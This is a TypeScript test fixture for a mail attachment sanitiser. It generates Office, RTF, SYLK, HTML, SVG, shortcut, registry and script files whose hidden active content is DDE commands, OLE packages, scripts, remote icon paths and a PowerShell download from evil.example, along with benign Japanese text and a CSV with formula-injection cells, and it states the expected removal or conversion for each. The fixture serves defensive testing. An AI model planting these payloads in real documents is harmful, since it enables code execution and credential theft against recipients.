import { encodeEucJp, encodeIso2022Jp, encodeSjis } from "./mail-corpus.ts";

/**
 * Files that are text on the wire but that Office, Windows or a browser open as something active,
 * and benign Japanese text and CSV, all generated here. Each case has its real name and type and a
 * misleading name and type; `expect` says what the engine must do with it.
 */
export interface ActiveTextCase {
	id: string;
	content: Buffer;
	real: { filename: string; contentType: string };
	misleading: { filename: string; contentType: string };
	/** removed: not delivered, named in the notice; converted: delivered as inert `.txt`; text: as text. */
	expect: "removed" | "converted" | "text" | "csv";
	/** Words the notice or the report must use for what was found (removed and converted cases). */
	named?: RegExp;
	/** Text a converted or text output must contain; `absent` it must not. */
	keeps?: string;
	absent?: string[];
}

const DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"';
export const JAPANESE_TEXT =
	"住民票の写しについて\r\n申請書を添付します。よろしくお願いいたします。\r\n";
export const JAPANESE_CSV =
	'番号,氏名,備考\r\n1,山田,=HYPERLINK("http://evil.example/","詳細")\r\n2,鈴木,"+SUM(A1:A2)"\r\n3,佐藤,-5\r\n4,田中,＝1+1\r\n5,高橋,@SUM(A1)\r\n6,伊藤,"-2+3"\r\n';

const utf8 = (text: string) => Buffer.from(text, "utf8");

function wordXml(): Buffer {
	return utf8(
		`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<?mso-application progid="Word.Document"?>\n<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body><w:p><w:r><w:t>請求書のご案内</w:t></w:r></w:p><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> ${DDE} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:wordDocument>\n`,
	);
}

function wordXmlWithPackage(): Buffer {
	const ole = Buffer.concat([
		Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
		Buffer.from("Package\0C:\\Users\\x\\invoice.exe\0"),
	]).toString("base64");
	return utf8(
		`<?xml version="1.0" encoding="UTF-8"?>\n<?mso-application progid="Word.Document"?>\n<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"><w:body><w:p><w:r><w:t>添付資料をご確認ください</w:t></w:r><w:r><w:object><w:binData w:name="wordml://oledata.mso">${ole}</w:binData><v:shape id="_x0000_i1025"/><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" ObjectID="_1"/></w:object></w:r></w:p></w:body></w:wordDocument>\n`,
	);
}

function flatOpc(): Buffer {
	return utf8(
		`<?xml version="1.0" standalone="yes"?>\n<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"><pkg:part pkg:name="/word/document.xml" pkg:contentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"><pkg:xmlData><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>会議資料</w:t></w:r></w:p><w:p><w:fldSimple w:instr='${DDE}'><w:r><w:t>更新</w:t></w:r></w:fldSimple></w:p></w:body></w:document></pkg:xmlData></pkg:part></pkg:package>\n`,
	);
}

function spreadsheetMl(): Buffer {
	return utf8(
		`<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="Sheet1"><Table><Row><Cell><Data ss:Type="String">氏名</Data></Cell><Cell ss:Formula="=HYPERLINK(&quot;http://evil.example/&quot;)"><Data ss:Type="String">点検表</Data></Cell></Row></Table></Worksheet></Workbook>\n`,
	);
}

const SYLK = 'ID;P\r\nC;Y1;X1;K"売上"\r\nC;Y2;X1;EEXEC("CALC.EXE")\r\nC;Y3;X1;EHALT()\r\nE\r\n';
/** 住民票 in Shift_JIS hex escapes, an OLE Package object and a DDE field. */
const RTF1 =
	"{\\rtf1\\ansi\\ansicpg932\\deff0{\\fonttbl{\\f0 MS Mincho;}}\\f0 \\'8f\\'5a\\'96\\'af\\'95\\'5b\\par{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105000002000000080000005061636b61676500}}\\par}";
const RT_ONLY = `{\\rt 通知文 {\\field{\\*\\fldinst ${DDE}}{\\fldrslt 更新}}}`;
const MHTML =
	'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b1"\r\n\r\n--b1\r\nContent-Type: text/html\r\nContent-Location: file:///C:/page.htm\r\n\r\n<html><body><script>new ActiveXObject("WScript.Shell").Run("calc")</script></body></html>\r\n--b1--\r\n';
const SVG =
	'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>\n';
const HTML = "<p>お知らせ</p>\n<script>location='http://evil.example/'</script>\n";
const IQY = 'WEB\r\n1\r\nhttp://evil.example/query.iqy?x=["x"]\r\n';
const URL_FILE =
	"[InternetShortcut]\r\nURL=file://evil.example/share/invoice.exe\r\nIconFile=\\\\evil.example\\icon.ico\r\nIconIndex=1\r\n";
const REG =
	'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"x"="calc.exe"\r\n';
const SCF =
	"[Shell]\r\nCommand=2\r\nIconFile=\\\\evil.example\\share\\x.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n";
const PS1 =
	"Start-Process calc.exe\r\nInvoke-WebRequest -Uri http://evil.example/x -OutFile x.exe\r\n";
const VBS = 'Set sh = CreateObject("WScript.Shell")\r\nsh.Run "calc.exe"\r\n';
const BAT = "@echo off\r\nstart calc.exe\r\n";
const DIF =
	'TABLE\r\n0,1\r\n"EXCEL"\r\nVECTORS\r\n0,1\r\n""\r\nDATA\r\n0,0\r\n""\r\n-1,0\r\nBOT\r\n1,0\r\n"x"\r\n-1,0\r\nEOD\r\n';

const memo = { filename: "memo.txt", contentType: "text/plain" };

/** Every case: active formats under their real names, then under `memo.txt` as text/plain. */
export function activeTextCases(): ActiveTextCase[] {
	return [
		{
			id: "word2003-dde",
			content: wordXml(),
			real: { filename: "案内.xml", contentType: "application/xml" },
			misleading: memo,
			expect: "converted",
			named: /Word 2003 XML/,
			keeps: "請求書のご案内",
			absent: ["DDEAUTO", "calc"],
		},
		{
			id: "word2003-ole-package",
			content: wordXmlWithPackage(),
			real: { filename: "資料.doc", contentType: "application/msword" },
			misleading: { filename: "資料.csv", contentType: "text/csv" },
			expect: "converted",
			named: /Word 2003 XML/,
			keeps: "添付資料をご確認ください",
			absent: ["Package", "0M8R4KGx", "invoice"],
		},
		{
			id: "flat-opc-dde",
			content: flatOpc(),
			real: { filename: "会議.xml", contentType: "application/xml" },
			misleading: memo,
			expect: "converted",
			named: /Flat OPC/,
			keeps: "会議資料",
			absent: ["DDEAUTO", "pkg:"],
		},
		{
			id: "spreadsheetml-2003",
			content: spreadsheetMl(),
			real: { filename: "点検表.xml", contentType: "application/vnd.ms-excel" },
			misleading: memo,
			expect: "converted",
			named: /SpreadsheetML/,
			keeps: "点検表",
			absent: ["HYPERLINK"],
		},
		{
			id: "sylk-exec",
			content: utf8(SYLK),
			real: { filename: "table.slk", contentType: "application/x-sylk" },
			misleading: { filename: "table.csv", contentType: "text/csv" },
			expect: "converted",
			named: /SYLK/,
			keeps: "売上",
			absent: ["EXEC", "ID;"],
		},
		{
			id: "rtf1-object",
			content: utf8(RTF1),
			real: { filename: "通知.rtf", contentType: "application/rtf" },
			misleading: memo,
			expect: "converted",
			named: /RTF/,
			keeps: "住民票",
			absent: ["objdata", "Package", "0105000002"],
		},
		{
			id: "rt-only-dde",
			content: utf8(RT_ONLY),
			real: { filename: "通知.rtf", contentType: "text/rtf" },
			misleading: memo,
			expect: "converted",
			named: /RTF/,
			keeps: "通知文",
			absent: ["DDEAUTO", "fldinst"],
		},
		{
			id: "mhtml-script",
			content: utf8(MHTML),
			real: { filename: "page.mht", contentType: "application/x-mimearchive" },
			misleading: memo,
			expect: "removed",
			named: /MHTML|HTML/,
		},
		{
			id: "svg-script",
			content: utf8(SVG),
			real: { filename: "logo.svg", contentType: "image/svg+xml" },
			misleading: memo,
			expect: "removed",
			named: /SVG/,
		},
		{
			id: "html-script",
			content: utf8(HTML),
			real: { filename: "お知らせ.html", contentType: "text/html" },
			misleading: memo,
			expect: "removed",
			named: /HTML/,
		},
		{
			id: "iqy",
			content: utf8(IQY),
			real: { filename: "query.iqy", contentType: "text/x-ms-iqy" },
			misleading: memo,
			expect: "removed",
			named: /IQY/,
		},
		{
			id: "url-shortcut",
			content: utf8(URL_FILE),
			real: { filename: "請求書.url", contentType: "application/internet-shortcut" },
			misleading: memo,
			expect: "removed",
			named: /Internet shortcut/,
		},
		{
			id: "reg",
			content: utf8(REG),
			real: { filename: "setup.reg", contentType: "text/x-ms-regedit" },
			misleading: memo,
			expect: "removed",
			named: /registry/,
		},
		{
			id: "scf",
			content: utf8(SCF),
			real: { filename: "desktop.scf", contentType: "application/octet-stream" },
			misleading: memo,
			expect: "removed",
			named: /Explorer command/,
		},
		{
			id: "dif",
			content: utf8(DIF),
			real: { filename: "data.dif", contentType: "application/x-dif" },
			misleading: { filename: "data.csv", contentType: "text/csv" },
			expect: "removed",
			named: /DIF/,
		},
		{
			id: "ps1-as-text",
			content: utf8(PS1),
			real: { filename: "run.ps1", contentType: "text/plain" },
			misleading: memo,
			expect: "removed",
			named: /Start-Process|script/,
		},
		{
			id: "vbs-as-text",
			content: utf8(VBS),
			real: { filename: "run.vbs", contentType: "text/vbscript" },
			misleading: memo,
			expect: "removed",
			named: /CreateObject|WScript|script/,
		},
		{
			id: "bat-as-text",
			content: utf8(BAT),
			real: { filename: "run.bat", contentType: "application/x-bat" },
			misleading: memo,
			expect: "removed",
			named: /batch|script/,
		},
		...(
			[
				["shift_jis", encodeSjis(JAPANESE_TEXT)],
				["iso-2022-jp", encodeIso2022Jp(JAPANESE_TEXT)],
				["euc-jp", encodeEucJp(JAPANESE_TEXT)],
				["utf-8", utf8(JAPANESE_TEXT)],
			] as const
		).map(
			([charset, content]): ActiveTextCase => ({
				id: `japanese-text-${charset}`,
				content,
				real: { filename: "お知らせ.txt", contentType: `text/plain; charset=${charset}` },
				misleading: { filename: "お知らせ.dat", contentType: "application/octet-stream" },
				expect: "text",
				keeps: JAPANESE_TEXT,
			}),
		),
		{
			id: "csv-formulas-shift_jis",
			content: encodeSjis(JAPANESE_CSV),
			real: { filename: "名簿.csv", contentType: "text/csv; charset=shift_jis" },
			misleading: { filename: "名簿.csv", contentType: "application/vnd.ms-excel" },
			expect: "csv",
			named: /formula/,
			keeps: "山田",
		},
	];
}
